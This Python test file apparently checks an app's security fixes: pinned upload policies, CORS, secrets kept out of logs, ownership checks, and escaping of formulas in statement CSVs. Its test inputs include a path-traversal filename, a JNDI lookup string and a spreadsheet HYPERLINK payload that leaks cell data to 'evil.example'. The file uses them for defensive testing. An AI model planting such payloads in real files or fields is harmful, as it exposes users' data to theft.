"""Security review, one test per finding kept: uploads pinned by their presigned POST, no client
text in storage keys, short-lived media URLs, CORS for browsers on other origins, no secret or
token in the logs, no member able to change what another owns, and no formula in a statement's
CSV."""
from __future__ import annotations

import base64
import csv
import io
import json
import logging
from datetime import datetime, timezone
from urllib.parse import parse_qs, urlsplit

import pytest
import requests

from chalicelib.domain.media import MAX_BYTES, allowed_content_types
from tests import media_samples as samples
from tests.hardening.world import unique
from tests.store_payloads import (
    SHOPIFY_SECRET, STRIPE_SECRET, charge, checkout_session, shopify_signature, stripe_event, stripe_signature,
)

MEDIA_KINDS = [kind for kind in MAX_BYTES if kind != "text"]
FIFTEEN_MINUTES = 15 * 60
BROWSER_ORIGIN = "http://localhost:5173"


def _policy(upload: dict) -> dict:
    return json.loads(base64.b64decode(upload["fields"]["policy"]))


@pytest.mark.parametrize("kind, content_type", [(k, t) for k in MEDIA_KINDS for t in sorted(allowed_content_types(k))])
def test_every_presigned_post_pins_its_key_the_exact_type_and_the_size_range(shared_world, kind, content_type):
    created = shared_world.expect(201, "POST", "/records", "member", json={
        "kind": kind, "title": "Work", "file": {"filename": "w", "content_type": content_type.upper(), "size": 10}})
    record_id, upload = created["record"]["id"], created["upload"]
    policy = _policy(upload)
    conditions = policy["conditions"]

    assert {"key": f"uploads/{record_id}"} in conditions and upload["fields"]["key"] == f"uploads/{record_id}"
    assert {"Content-Type": content_type} in conditions  # exact (lowercased), not a prefix
    assert ["content-length-range", 1, MAX_BYTES[kind]] in conditions
    assert not [c for c in conditions if isinstance(c, list) and c[0].lower() == "starts-with"]
    expires = datetime.fromisoformat(policy["expiration"].replace("Z", "+00:00"))
    assert 0 < (expires - datetime.now(timezone.utc)).total_seconds() <= FIFTEEN_MINUTES


@pytest.mark.parametrize("filename, title", [
    ("../../etc/passwd", "../../etc"), ("a b?c#d%2F.png", "uploads/other"), ("☃.png", "media/01ABC"),
    ("x" * 255, "${jndi:ldap://x}"),
])
def test_no_client_text_reaches_a_storage_key_or_the_upload_policy(shared_world, filename, title):
    created = shared_world.expect(201, "POST", "/records", "member", json={
        "kind": "image", "title": title, "file": {"filename": filename, "content_type": "image/png", "size": 10}})
    record_id, upload = created["record"]["id"], created["upload"]

    assert upload["fields"]["key"] == f"uploads/{record_id}"
    sent = json.dumps(upload["fields"]) + upload["url"] + json.dumps(_policy(upload))
    assert filename not in sent and title not in sent


def test_a_ready_record_serves_its_media_from_its_own_key_for_fifteen_minutes_at_most(world, deliver):
    data = samples.png(3, 3)
    created = world.expect(201, "POST", "/records", "member", json={
        "kind": "image", "title": "../../x", "file": {"filename": "../../y.png", "content_type": "image/png",
                                                      "size": len(data)}})
    record_id, post = created["record"]["id"], created["upload"]
    assert requests.post(post["url"], data=post["fields"], files={"file": ("../z.png", data)}, timeout=60).ok
    deliver()

    record = world.expect(200, "GET", f"/records/{record_id}")
    url = urlsplit(record["media_url"])
    query = parse_qs(url.query)
    signed_at = datetime.strptime(query["X-Amz-Date"][0], "%Y%m%dT%H%M%SZ").replace(tzinfo=timezone.utc)

    assert record["status"] == "ready"
    assert url.path.endswith(f"/media/{record_id}")
    assert int(query["X-Amz-Expires"][0]) <= FIFTEEN_MINUTES
    assert abs((datetime.now(timezone.utc) - signed_at).total_seconds()) < 120
    assert requests.get(record["media_url"], timeout=30).content == data


# --- CORS ---------------------------------------------------------------------------------------

def test_a_browser_on_another_origin_may_send_a_bearer_token_and_json(shared_world):
    preflight = requests.options(f"{shared_world.base_url}/records", timeout=30, headers={
        "Origin": BROWSER_ORIGIN, "Access-Control-Request-Method": "POST",
        "Access-Control-Request-Headers": "authorization,content-type"})

    assert preflight.status_code == 200
    assert preflight.headers["Access-Control-Allow-Origin"] == "*"
    allowed = {h.strip().lower() for h in preflight.headers["Access-Control-Allow-Headers"].split(",")}
    assert {"authorization", "content-type"} <= allowed
    assert "POST" in preflight.headers["Access-Control-Allow-Methods"]
    assert "Access-Control-Allow-Credentials" not in preflight.headers  # tokens, never cookies


def test_answers_and_problems_carry_cors_headers_and_expose_the_request_id(shared_world):
    ok = shared_world.request("GET", "/records", headers={"Origin": BROWSER_ORIGIN})
    refused = shared_world.request("GET", "/me", "forged", headers={"Origin": BROWSER_ORIGIN})

    for reply in (ok, refused):
        assert reply.headers["Access-Control-Allow-Origin"] == "*"
        assert "X-Request-Id" in reply.headers["Access-Control-Expose-Headers"]
    assert refused.status_code == 401


def test_store_webhooks_are_not_offered_to_browsers(shared_world):
    preflight = requests.options(f"{shared_world.base_url}/webhooks/stripe", timeout=30, headers={
        "Origin": BROWSER_ORIGIN, "Access-Control-Request-Method": "POST"})

    assert "Access-Control-Allow-Origin" not in preflight.headers


# --- logs ---------------------------------------------------------------------------------------

@pytest.fixture
def app_log():
    """Everything the app's Powertools logger writes, formatted as it is written, at DEBUG."""
    from chalicelib.observability import get_logger

    logger = get_logger()
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(logger.registered_formatter)
    level = logger.log_level
    logger.addHandler(handler)
    logger.setLevel("DEBUG")
    yield stream
    logger.setLevel(level)
    logger.removeHandler(handler)


def test_tokens_signatures_and_secrets_never_reach_the_logs(shared_world, app_log):
    from chalicelib.config import LOCAL_CURSOR_SECRET, LOCAL_DEV_JWT_SECRET

    world = shared_world
    stripe_raw = json.dumps(stripe_event("checkout.session.completed", checkout_session(
        unique("pi_"), 300, production_id=world.released))).encode()
    stripe_header = stripe_signature(stripe_raw)
    shopify_raw, shopify_headers = world.shopify_delivery(product_id=31337)
    bad_stripe = stripe_signature(stripe_raw, secrets=("whsec_someone_else",))

    world.expect(200, "GET", "/me", "member")
    world.expect(201, "POST", "/records", "producer", json={"kind": "text", "title": "Logged", "body": "x"})
    world.expect(401, "GET", "/me", "forged")
    world.expect(401, "GET", "/records", "expired")
    world.expect(401, "GET", "/me", headers={"Authorization": "Bearer not.a.jwt"})
    world.expect(200, "POST", "/webhooks/stripe", data=stripe_raw,
                 headers={"Stripe-Signature": stripe_header, "Content-Type": "application/json"})
    world.expect(401, "POST", "/webhooks/stripe", data=stripe_raw,
                 headers={"Stripe-Signature": bad_stripe, "Content-Type": "application/json"})
    world.expect(200, "POST", "/webhooks/shopify", data=shopify_raw, headers=shopify_headers)
    world.expect(401, "POST", "/webhooks/shopify", data=shopify_raw,
                 headers={**shopify_headers, "X-Shopify-Hmac-Sha256": shopify_signature(shopify_raw, "wrong")})

    logged = app_log.getvalue()
    assert logged.count('"message":"request"') >= 9  # every request above was logged
    secrets = {
        "member token": world.tokens["member"], "producer token": world.tokens["producer"],
        "forged token": world.tokens["forged"], "expired token": world.tokens["expired"],
        "token signature": world.tokens["member"].rsplit(".", 1)[1], "stripe signature": stripe_header,
        "stripe v1": stripe_header.split("v1=")[1], "bad stripe v1": bad_stripe.split("v1=")[1],
        "shopify hmac": shopify_headers["X-Shopify-Hmac-Sha256"], "stripe secret": STRIPE_SECRET,
        "shopify secret": SHOPIFY_SECRET, "jwt secret": LOCAL_DEV_JWT_SECRET, "cursor secret": LOCAL_CURSOR_SECRET,
    }
    assert [name for name, secret in secrets.items() if secret in logged] == []


# --- object-level authorization --------------------------------------------------------------

def test_no_member_can_change_what_another_owns(world):
    alice_record = world.fresh_record("member", tags=["mine"])
    before = world.expect(200, "GET", f"/records/{alice_record}", "member")
    me_before = world.expect(200, "GET", "/me", "member")

    attempts = [
        ("PATCH", f"/records/{alice_record}", {"title": "Stolen", "remixable": False}),
        ("DELETE", f"/records/{alice_record}", None),
        ("POST", f"/records/{alice_record}/sources", {"sources": [{"record_id": world.bob_record}]}),
        ("PATCH", f"/productions/{world.draft}", {"title": "Mine now"}),
        ("PUT", f"/productions/{world.draft}/contributions", {"contributions": [{"record_id": world.bob_record,
                                                                                  "weight": 99}]}),
        ("POST", f"/productions/{world.released}/costs", {"amount": {"amount": 1, "currency": "USD"},
                                                          "description": "x", "incurred_on": "2026-11-01"}),
        ("POST", f"/productions/{world.draft}/release", None),
    ]
    for intruder in ("other_member", "other_producer"):
        for method, path, body in attempts:
            reply = world.request(method, path, intruder, json=body)
            assert reply.status_code in (403, 404), (intruder, method, path, reply.status_code)
    world.expect(200, "PATCH", "/me", "other_member", json={"display_name": "Bob B"})

    assert world.expect(200, "GET", f"/records/{alice_record}", "member") == before
    assert world.expect(200, "GET", "/me", "member") == me_before
    draft = world.expect(200, "GET", f"/productions/{world.draft}", "producer")
    assert draft["status"] == "draft" and not draft["title"].startswith("Mine")
    contributions = world.expect(200, "GET", f"/productions/{world.draft}/contributions", "producer")
    assert contributions["contributions"] == [{"record_id": world.record, "weight": 1}]
    released = world.expect(200, "GET", f"/productions/{world.released}")
    assert released["totals"]["costs"]["amount"] == 0


def test_taking_back_a_heart_takes_back_only_your_own(world, deliver):
    world.expect(200, "PUT", f"/records/{world.bob_record}/heart", "member")
    world.expect(200, "DELETE", f"/records/{world.bob_record}/heart", "producer")
    deliver()

    assert world.expect(200, "GET", f"/records/{world.bob_record}", "member")["hearted_by_me"] is True
    assert world.expect(200, "GET", f"/records/{world.bob_record}")["heart_count"] == 1


# --- statements as CSV ----------------------------------------------------------------------------

MARCH = int(datetime(2025, 3, 10, tzinfo=timezone.utc).timestamp())
APRIL = int(datetime(2025, 4, 5, tzinfo=timezone.utc).timestamp())


def _close(world, deliver, period: str) -> None:
    world.expect(202, "POST", "/royalty-runs", "admin", json={"period": period})
    deliver()
    assert world.expect(200, "GET", f"/royalty-runs/{period}", "admin")["status"] == "closed"


def _csv_rows(world, principal: str, period: str) -> list[list[str]]:
    reply = world.request("GET", f"/me/statements/{period}", principal, headers={"Accept": "text/csv"})
    assert reply.status_code == 200 and reply.headers["Content-Type"] == "text/csv; charset=utf-8", reply.text
    return list(csv.reader(io.StringIO(reply.text)))


def test_titles_that_look_like_formulas_reach_statement_csvs_as_text_and_amounts_stay_numbers(world, deliver):
    """Alice's `=HYPERLINK(...)` remixes Bob's `@SUM(1+1)`; Paula's production `=1+1` sells it.
    March: a sale of 10001 → pool 5000: alice keeps 4000, 1000 reaches bob. April: 3001 refunded
    → pool 3500: alice −1200, bob −300 (negative amounts, written as numbers)."""
    hyperlink = '=HYPERLINK("https://evil.example/?leak="&A1,"Claim your royalties")'
    source = world.fresh_record("other_member", title="@SUM(1+1)")
    remix = world.expect(201, "POST", "/records", "member", json={
        "kind": "text", "title": hyperlink, "body": "x", "sources": [{"record_id": source}]})["record"]["id"]
    production = world.expect(201, "POST", "/productions", "producer", json={
        "title": "=1+1", "format": "book", "currency": "USD"})["id"]
    world.expect(200, "PUT", f"/productions/{production}/contributions", "producer",
                 json={"contributions": [{"record_id": remix, "weight": 1}]})
    world.release(production)
    world.stripe(checkout_session("pi_formula", 10001, production_id=production), created=MARCH)
    _close(world, deliver, "2025-03")
    world.stripe(charge("pi_formula", 10001, 3001), "charge.refunded", created=APRIL)
    _close(world, deliver, "2025-04")

    header = ["currency", "production_id", "production_title", "record_id", "record_title", "via", "amount"]
    assert _csv_rows(world, "member", "2025-03") == [
        header, ["USD", production, "'=1+1", remix, "'" + hyperlink, "contribution", "4000"]]
    assert _csv_rows(world, "other_member", "2025-03") == [
        header, ["USD", production, "'=1+1", source, "'@SUM(1+1)", "lineage", "1000"]]
    assert _csv_rows(world, "member", "2025-04")[1][4:] == ["'" + hyperlink, "contribution", "-1200"]
    assert _csv_rows(world, "other_member", "2025-04")[1][6] == "-300"
    lines = world.expect(200, "GET", "/me/statements/2025-04", "member")["statements"][0]["lines"]
    assert (lines[0]["production_title"], lines[0]["record_title"]) == ("=1+1", hyperlink)  # JSON keeps the text
